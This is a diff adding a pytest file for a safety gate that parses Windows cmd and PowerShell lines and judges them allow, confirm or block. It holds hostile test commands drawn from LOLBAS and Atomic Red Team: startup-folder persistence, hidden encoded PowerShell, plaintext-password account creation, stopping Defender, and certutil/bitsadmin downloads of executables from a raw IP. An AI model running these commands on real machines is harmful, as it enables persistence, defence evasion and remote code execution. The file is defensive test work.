@@ -1,0 +1,192 @@
+"""Windows command lines (cmd.exe and PowerShell) read as Windows reads them (gate/winshell.py), and the
+Windows context checks (gate/rules/shell_windows.py). Cases written from the LOLBAS entries, the Atomic
+Red Team technique pages and Microsoft's PowerShell documentation, in our own words; each trigger has a
+benign near-miss."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from gate import SafetyGate, default_policy
+from gate.model import action_from_dict
+from gate.shell import analyse
+from gate.winshell import dialect
+
+GATE = SafetyGate(default_policy("balanced"))
+
+
+def shell(command: str):  # noqa: ANN201 - the gate's Assessment
+    return GATE.assess(action_from_dict({"type": "shell", "command": command}))
+
+
+def decision(command: str) -> str:
+    return shell(command).decision.value
+
+
+# -- which lines are Windows ------------------------------------------------------------------------
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ("dir C:\\Users\\me\\project", "cmd"),
+    ("type %USERPROFILE%\\notes.txt", "cmd"),
+    ("reg query HKCU\\Software\\Vendor /v Setting", "cmd"),
+    ("for /f %i in (hosts.txt) do ping -n 1 %i", "cmd"),
+    ("Get-ChildItem -Recurse .\\src", "ps"),
+    ("$out = Get-Content README.md", "ps"),
+    ("powershell -NoProfile -Command \"Get-Process\"", "ps"),
+    ("if ($x -gt 1) { Write-Host big }", "ps"),
+    # bash lines, backslashes and all, stay bash
+    ("grep -E \"a\\|b\" notes.txt", None),
+    ("find . -name '*.pyc' -exec rm {} \\;", None),
+    ("echo $(date +%Y%m%d)", None),
+    ("printf '%s\\n' hello", None),
+    ("(cd sub; make)", None),
+    ("git commit -m \"fix the parser\"", None),
+])
+def test_a_line_is_read_as_windows_only_when_it_is_one(command: str, expected: str | None) -> None:
+    assert dialect(command) == expected
+
+
+def test_backslash_paths_keep_their_separators() -> None:
+    a = analyse("copy C:\\Users\\me\\a.exe \"D:\\Back ups\\\"")
+    assert a.commands[0].argv == ("copy", "C:\\Users\\me\\a.exe", "D:\\Back ups\\")
+    assert not a.unparsable
+
+
+def test_cmd_escapes_chains_pipes_and_redirects() -> None:
+    a = analyse("findstr /i a^&b C:\\x.txt > out.txt & type C:\\x.txt | findstr a")
+    assert [c.name for c in a.commands] == ["findstr", "type", "findstr"]
+    assert a.commands[0].argv == ("findstr", "/i", "a&b", "C:\\x.txt")
+    assert a.commands[0].redirects == ((">", "out.txt"),)
+    assert a.commands[2].upstream == (1,)
+    assert {"chain", "pipe", "redirect"} <= a.features
+
+
+def test_cmd_if_and_for_run_their_commands() -> None:
+    names = [c.name for c in analyse("if exist C:\\x.txt (del C:\\x.txt) else (echo none)").commands]
+    assert names == ["del", "echo"]
+    assert [c.name for c in analyse("for %f in (*.log) do del %f").commands] == ["del"]
+
+
+def test_cmd_c_body_is_read_as_a_windows_line() -> None:
+    a = analyse("cmd.exe /c \"net use \\\\fileserver\\share /user:CORP\\me\"")
+    inner = [c for c in a.commands if c.name == "net"]
+    assert inner and inner[0].argv[2] == "\\\\fileserver\\share" and inner[0].via == ("cmd /c",)
+
+
+def test_powershell_aliases_are_read_as_their_cmdlets() -> None:
+    a = analyse("iwr https://example.org/a.txt -OutFile a.txt; gci .\\out | rm")
+    assert [c.name for c in a.commands] == ["invoke-webrequest", "get-childitem", "remove-item"]
+
+
+def test_powershell_variables_set_in_the_line_are_followed() -> None:
+    a = analyse("$target = \"C:\\Users\\Public\"; Add-MpPreference -ExclusionPath $target")
+    assert a.commands[-1].argv == ("Add-MpPreference", "-ExclusionPath", "C:\\Users\\Public")
+
+
+def test_powershell_brackets_and_script_blocks_are_read() -> None:
+    a = analyse("Get-ChildItem *.log | ForEach-Object { Remove-Item $_.FullName }; $n = (Get-Date).Year")
+    assert {"get-childitem", "foreach-object", "remove-item", "get-date"} <= {c.name for c in a.commands}
+
+
+def test_encoded_command_is_decoded_and_judged() -> None:
+    body = base64.b64encode("Remove-Item -Recurse -Force C:\\".encode("utf-16-le")).decode()
+    a = analyse(f"powershell -NoProfile -EncodedCommand {body}")
+    assert any(c.name == "remove-item" and "C:\\" in c.argv for c in a.commands)
+    assert decision(f"powershell -NoProfile -EncodedCommand {body}") != "allow"
+
+
+# -- benign Windows work stays allowed ----------------------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "Get-ChildItem",
+    "Get-Content README.md",
+    "dotnet build",
+    "npm ci",
+    "dir C:\\Users\\me\\project",
+    "type file.txt",
+    "powershell -NoProfile -Command \"pip install -r requirements.txt\"",
+    "Get-ChildItem -Recurse -Filter *.cs | Select-String \"TODO\"",
+    "[Math]::Round(2.5)",
+])
+def test_ordinary_windows_commands_are_allowed(command: str) -> None:
+    assert decision(command) == "allow", shell(command).rules
+
+
+# -- context: what blocks, and its near-miss ----------------------------------------------------------
+
+def test_a_program_copied_into_the_startup_folder_blocks() -> None:
+    startup = "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
+    got = shell(f"copy helper.exe \"{startup}\"")
+    assert "block.shell.malicious-persistence" in got.rules
+    # a note put there asks; a program copied elsewhere in the profile is not persistence
+    assert decision(f"copy readme.txt \"{startup}\"") == "confirm"
+    assert "block.shell.malicious-persistence" not in shell("copy helper.exe %APPDATA%\\Vendor\\").rules
+
+
+def test_hidden_window_with_encoded_command_blocks() -> None:
+    body = base64.b64encode("Get-Date".encode("utf-16-le")).decode()
+    assert "block.shell.defense-evasion" in shell(f"powershell -nop -w hidden -enc {body}").rules
+    assert decision(f"powershell -NoProfile -EncodedCommand {body}") != "block"
+    assert decision("powershell -WindowStyle Hidden -File build.ps1") != "block"
+
+
+def test_account_with_a_password_on_the_command_line_blocks() -> None:
+    assert "block.shell.credential-tamper" in shell("net user helpdesk Winter2025! /add").rules
+    assert "block.shell.credential-tamper" in shell(
+        "New-LocalUser -Name helpdesk -Password (ConvertTo-SecureString 'Winter2025!' -AsPlainText -Force)").rules
+    # the password asked for interactively: an account change that asks
+    assert decision("net user helpdesk * /add") != "block"
+    assert decision("New-LocalUser -Name helpdesk -Password $secure") == "confirm"
+
+
+def test_adding_to_administrators_by_cmdlet_blocks() -> None:
+    assert "block.shell.credential-tamper" in shell("Add-LocalGroupMember -Group Administrators -Member helpdesk").rules
+    assert decision("Add-LocalGroupMember -Group Developers -Member helpdesk") == "confirm"
+    assert decision("Get-LocalGroupMember -Group Administrators") == "allow"
+
+
+def test_security_service_stopped_by_cmdlet_blocks() -> None:
+    assert decision("Stop-Service -Name WinDefend -Force") == "block"
+    assert decision("Set-Service -Name Spooler -StartupType Disabled") == "confirm"
+    assert decision("Get-Service -Name Spooler") == "allow"
+
+
+def test_program_fetched_into_a_staging_folder_by_a_system_tool_blocks() -> None:
+    assert "block.shell.remote-code-exec" in shell(
+        "certutil -urlcache -split -f https://cdn.example.net/tool.exe C:\\Users\\Public\\tool.exe").rules
+    assert "block.shell.remote-code-exec" in shell(
+        "bitsadmin /transfer job /download http://203.0.113.9/a.dll %TEMP%\\a.dll").rules
+    assert "block.shell.remote-code-exec" in shell(
+        "Invoke-WebRequest http://203.0.113.9/u.exe -OutFile $env:PUBLIC\\u.exe").rules
+    # a named host into the temp folder asks (installers are fetched that way); a data file is not a program
+    assert decision("Invoke-WebRequest https://example.org/setup.exe -OutFile $env:TEMP\\setup.exe") == "confirm"
+    assert "block.shell.remote-code-exec" not in shell(
+        "certutil -urlcache -split -f https://example.org/data.csv C:\\Users\\Public\\data.csv").rules
+
+
+def test_webclient_transfers_are_judged_as_the_cmdlets_that_do_the_same() -> None:
+    a = analyse("(New-Object Net.WebClient).DownloadFile('https://example.org/a.zip', 'a.zip')")
+    assert any(c.name == "invoke-webrequest" and "-OutFile" in c.argv for c in a.commands)
+    up = analyse("(New-Object Net.WebClient).UploadFile('https://files.example/u', 'report.csv')")
+    assert any(c.name == "invoke-restmethod" and c.argv[-2:] == ("-InFile", "report.csv") for c in up.commands)
+
+
+def test_dotnet_calls_the_gate_cannot_model_are_recorded_as_commands() -> None:
+    a = analyse("([adsisearcher]\"objectcategory=computer\").FindAll()")
+    assert [c.name for c in a.commands] == ["[adsisearcher]"]
+    assert decision("[IO.Path]::Combine('a', 'b')") == "allow"
+
+
+def test_known_folders_resolve_for_the_path_rules() -> None:
+    from gate.shell import resolve_path
+    assert resolve_path("%APPDATA%\\Vendor\\x.txt") == "/home/~/appdata/roaming/vendor/x.txt"
+    assert resolve_path("$env:WINDIR\\System32") == "/c:/windows/system32"
+    assert resolve_path("%TEMP%\\x") is None  # left as written: the rules know %TEMP% by name
+    assert resolve_path("%NOT_A_FOLDER%\\x") is None
+
+
+def test_start_process_named_file_is_followed() -> None:
+    a = analyse("Start-Process -FilePath \"C:\\Program Files\\Tool\\tool.exe\" -ArgumentList \"--check\"")
+    assert any(c.name == "tool" and c.via == ("start-process",) for c in a.commands)
